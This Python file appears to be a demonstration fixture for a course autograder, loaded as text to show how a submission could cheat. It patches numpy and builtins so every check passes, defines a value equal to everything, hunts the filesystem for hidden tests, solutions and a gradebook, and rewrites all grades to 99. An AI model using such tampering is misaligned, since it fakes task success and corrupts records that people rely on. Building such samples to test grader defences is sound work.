# What the demo's forger adds to an otherwise untouched exercise: hooks, hunts and hammers, in one cell of their own.
# Loaded as text by `course demo` and by the tests; it must earn nothing, learn nothing and harm nobody.
import builtins
import gc
import glob
import os
import sqlite3
import sys

import numpy as np

np.allclose = np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
builtins.all = lambda *a: True
sys.displayhook = lambda value: print(4.0)


class Equal(float):
    """Equal to everything, and true."""

    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
    __hash__ = float.__hash__
    __bool__ = lambda self: True
    __array__ = lambda self, *a, **k: np.asarray(1.0)


def loot():
    """Everything that looks like a hidden check, a solution or a gradebook."""
    found = [o for o in gc.get_objects() if "hidden" in str(type(o))]
    for place in ("/", "..", os.path.expanduser("~"), os.getcwd()):
        for name in ("solutions/*.py", "tests/hidden/*.py", ".course/*", "gradebook.db", "secret"):
            found += glob.glob(os.path.join(place, name))
    return found


def raid():
    """Full marks for everybody."""
    for path in loot():
        if str(path).endswith("gradebook.db"):
            with sqlite3.connect(path) as database:
                database.execute("UPDATE grade SET auto_score = 99, manual_score = 99")


try:
    raid()
except Exception as error:
    print("no luck:", type(error).__name__)
